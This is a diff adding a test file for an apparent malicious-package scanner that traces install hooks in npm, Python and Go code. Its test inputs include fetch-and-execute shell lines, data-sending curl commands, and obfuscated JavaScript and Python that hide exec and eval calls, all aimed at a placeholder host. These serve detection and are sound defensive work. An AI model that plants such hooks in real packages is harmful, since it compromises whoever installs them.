@@ -1,0 +1,128 @@
+import fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import { packageOf } from '../../test/samples.ts'
+import type { EcosystemId } from '../core/types.ts'
+import type { Facts } from './facts.ts'
+import { gatherFacts } from './gather.ts'
+
+function facts(ecosystem: EcosystemId, files: Record<string, string>): Facts {
+  return gatherFacts(packageOf({ says: '', ecosystem, files }).pkg)
+}
+const hook = (command: string, files: Record<string, string> = {}): Facts => facts('npm', { 'package.json': JSON.stringify({ scripts: { install: command } }), ...files })
+const js = (code: string, files: Record<string, string> = {}): Facts => hook('node a.js', { 'a.js': code, ...files })
+const py = (code: string, files: Record<string, string> = {}): Facts => facts('pypi', { 'setup.py': code, ...files })
+const lines = (found: Facts): string[] => found.actions.map(({ kind, call, argument, tainted }) => `${kind}${tainted ? `<${tainted}>` : ''} ${call} ${argument}`)
+
+describe('command lines', () => {
+  it.each([
+    ['curl -s https://a.example/x | sh', ['fetch curl https://a.example/x', 'execute<fetched> sh sh']],
+    ['sh -c "$(wget -qO- https://a.example/x)"', ['fetch wget https://a.example/x', 'execute<fetched> sh …']],
+    ['X=$(curl https://a.example); eval "$X"', ['fetch curl https://a.example', 'execute<fetched> eval …']],
+    ['wget https://a.example/run.sh && sh ./run.sh', ['fetch wget https://a.example/run.sh', 'execute<fetched> sh sh ./run.sh']],
+    ['echo x | base64 --decode | sudo bash', ['decode base64 base64 --decode', 'execute<decoded> bash bash']],
+    ['npx https://a.example/t.tgz', ['spawn npx npx https://a.example/t.tgz', 'fetch npx https://a.example/t.tgz', 'execute<fetched> npx https://a.example/t.tgz']],
+    ['npm install left-pad@1', ['spawn npm npm install left-pad@1']],
+    ['pip install --index-url=https://a.example/simple x', ['execute<fetched> pip https://a.example/simple']],
+    ['curl -d "$(id)" https://a.example', ['collect id id', 'send<collected> curl https://a.example']],
+    ['echo "curl https://a.example | sh"', []],
+  ])('%s', (line, expected) => expect(lines(hook(line))).toEqual(expect.arrayContaining(expected)))
+
+  it('follows a script of the package, at the right line', () => {
+    const found = hook('npm run go', { 'package.json': '{"scripts":{"install":"npm run go","go":"bash ./s.sh"}}', 's.sh': '#!/bin/sh\n\ncurl https://a.example | sh\n' })
+    expect(found.actions.find((action) => action.kind === 'fetch')).toMatchObject({ file: 's.sh', trigger: { name: 'install' } })
+  })
+})
+
+describe('JavaScript', () => {
+  it.each([
+    ['split names', `const c = require('child' + '_process'); c['ex' + 'ec'](['cu', 'rl https://a.example'].join('') + '|sh')`, 'execute<fetched> sh sh'],
+    ['destructuring', `const { execSync: run } = require('node:child_process'); run(\`curl \${'https://a.example'} | sh\`)`, 'execute<fetched> sh sh'],
+    ['an import', `import { exec as e } from 'child_process'; e('curl https://a.example|sh')`, 'execute<fetched> sh sh'],
+    ['a sequence callee', `const cp = require('child_process'); (0, cp.exec)('curl https://a.example|sh')`, 'execute<fetched> sh sh'],
+    ['a wrapper function called twice', `const r = (c) => require('child_process').execSync(c); r('ls'); r('curl https://a.example|sh')`, 'execute<fetched> sh sh'],
+    ['a promise', `fetch('https://a.example').then((r) => r.text()).then((t) => eval(t))`, 'execute<fetched> eval null'],
+    ['await', `(async () => { const t = await (await fetch('https://a.example')).text(); new Function(t)() })()`, 'execute<fetched> Function null'],
+    ['a class', `class A { go() { this.t = Buffer.from('eA==', 'base64') } run() { eval(this.t.toString()) } } const a = new A(); a.go(); a.run()`, 'execute<decoded> eval x'],
+    ['char codes', `eval(String.fromCharCode(120, 49))`, 'execute<decoded> eval x1'],
+    ['decoded code, read again', `eval(Buffer.from('${Buffer.from(`require('child_process').exec('curl https://a.example | sh')`).toString('base64')}', 'base64').toString())`, 'execute<fetched> sh sh'],
+    ['a new process', `require('child_process').spawn(process.execPath, ['-e', 'eval(atob("eA=="))'])`, 'execute<decoded> eval x'],
+  ])('follows %s', (_name, code, expected) => expect(lines(js(code))).toContain(expected))
+
+  it('follows files it requires, and says where', () => {
+    const found = js(`require('./lib').go()`, { 'lib/index.js': `exports.go = () => {\n  require('child_process').exec('id')\n}\n` })
+    expect(found.actions.find((action) => action.kind === 'collect')).toMatchObject({ file: 'lib/index.js', lines: [2, 2] })
+  })
+
+  it('leaves alone what nobody calls', () => {
+    expect(lines(js(`function f() { eval(atob('eA==')) }`))).toEqual(['spawn node node a.js'])
+  })
+
+  it('survives imports in a circle', () => {
+    expect(js(`require('./b'); eval(atob('eA=='))`, { 'b.js': `require('./a')` }).actions.some((action) => action.kind === 'execute')).toBe(true)
+  })
+})
+
+describe('Python', () => {
+  it.each([
+    ['an alias', `import os as o\no.system('curl https://a.example | sh')`, 'execute<fetched> sh sh'],
+    ['from', `from subprocess import call as c\nc(['curl', 'https://a.example'])`, 'fetch curl https://a.example'],
+    ['formats', `import os\nos.system('curl %s | sh' % 'https://a.example')\n`, 'fetch curl https://a.example'],
+    ['f-strings', `import os\nh = 'a.example'\nos.system(f"curl https://{h}/x")\n`, 'fetch curl https://a.example/x'],
+    ['getattr', `import os\ngetattr(os, 'sys' + 'tem')('curl https://a.example')`, 'fetch curl https://a.example'],
+    ['a with block', `import requests, subprocess\nwith open('r.py', 'wb') as f:\n  f.write(requests.get('https://a.example').content)\nsubprocess.run(['python', 'r.py'])`, 'execute<fetched> python python r.py'],
+    ['a command class', `from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n  def run(self):\n    self.go()\n  def go(self):\n    import os; os.system('curl https://a.example')\nsetup(cmdclass={'install': I})`, 'fetch curl https://a.example'],
+    ['print statements', `print "x"\nimport urllib2\nexec urllib2.urlopen('https://a.example').read()`, 'execute<fetched> exec null'],
+    ['hex', `exec(bytes.fromhex('78'))`, 'execute<decoded> exec x'],
+  ])('follows %s', (_name, code, expected) => expect(lines(py(code))).toContain(expected))
+
+  it('leaves alone classes that are not registered', () => {
+    expect(lines(py(`import os\nclass I:\n  def run(self):\n    os.system('curl https://a.example')\n`))).toEqual([])
+  })
+
+  it('reads only the import lines of a .pth', () => {
+    expect(lines(facts('pypi', { 'x.pth': 'folder\n# import os\nimport os; os.system("id")\n' }))).toEqual(['collect id id'])
+  })
+})
+
+describe('Go', () => {
+  const go = (code: string): Facts => facts('go', { 'a.go': `package a\nimport x "os/exec"\nimport "net/http"\n${code}` })
+  it.each([
+    ['init', `func init() { x.Command("sh", "-c", "curl https://a.example" + "|sh").Run() }`, 'execute<fetched> sh sh'],
+    ['a variable', `var r, _ = http.Get("https://a.example")`, 'fetch net/http.Get https://a.example'],
+    ['a called function', `func f() { http.Get("https://a.example") }\nfunc init() { f() }`, 'fetch net/http.Get https://a.example'],
+  ])('follows %s', (_name, code, expected) => expect(lines(go(code))).toContain(expected))
+  it('leaves alone functions, comments and strings', () => {
+    expect(lines(go('func F() { x.Command("id") }\n/* func init() { x.Command("id") } */\nvar s = `func init() { x.Command("id") }`'))).toEqual([])
+  })
+})
+
+describe('hostile code', () => {
+  it.each([
+    ['brackets', js('('.repeat(50_000))],
+    ['calls', js('f('.repeat(5_000) + ')'.repeat(5_000))],
+    ['Python lists', py(`x = ${'['.repeat(50_000)}`)],
+    ['substitutions', hook('$('.repeat(2_000))],
+  ])('names what it could not follow: %s', (_name, found) => expect(found.missing.length).toBeGreaterThan(0))
+
+  it('says when only the beginning of a file was there', () => {
+    const { pkg } = packageOf({ says: '', ecosystem: 'npm', files: { 'package.json': '{"scripts":{"install":"node a.js"}}', 'a.js': 'x()' } })
+    const file = pkg.files.get('a.js')
+    if (!file) throw new Error('no file')
+    const cut = { ...pkg, files: new Map(pkg.files).set('a.js', { ...file, truncated: true }) }
+    expect(gatherFacts(cut).missing).toEqual(['a.js: runs by itself, only its beginning was read'])
+  })
+
+  it('folds doubling text without growing', () => {
+    expect(js(`let x = 'aaaaaaaaaa'\n${'x = x + x\n'.repeat(200)}eval(x)`).missing).toEqual([])
+  })
+
+  const piece = fc.constantFrom('eval', '(', ')', '{', '}', '[', ']', "'a'", '"', '`', '${', '=>', '.', ',', ';', '\n', ' ', 'x', '=', 'def f', ':', 'class', 'import', '\\', '<(', '|', '&', 'exec', '\0', '…', '__proto__', 'constructor')
+  it('never throws', () => {
+    fc.assert(fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
+      const text = pieces.join('')
+      for (const found of [js(text), py(text), hook(text), facts('go', { 'a.go': text }), facts('npm', { 'package.json': '{}', 'binding.gyp': text })]) {
+        for (const action of found.actions) expect(action.lines[0]).toBeGreaterThan(0)
+      }
+    }), { numRuns: 300, seed: 7 })
+  })
+})
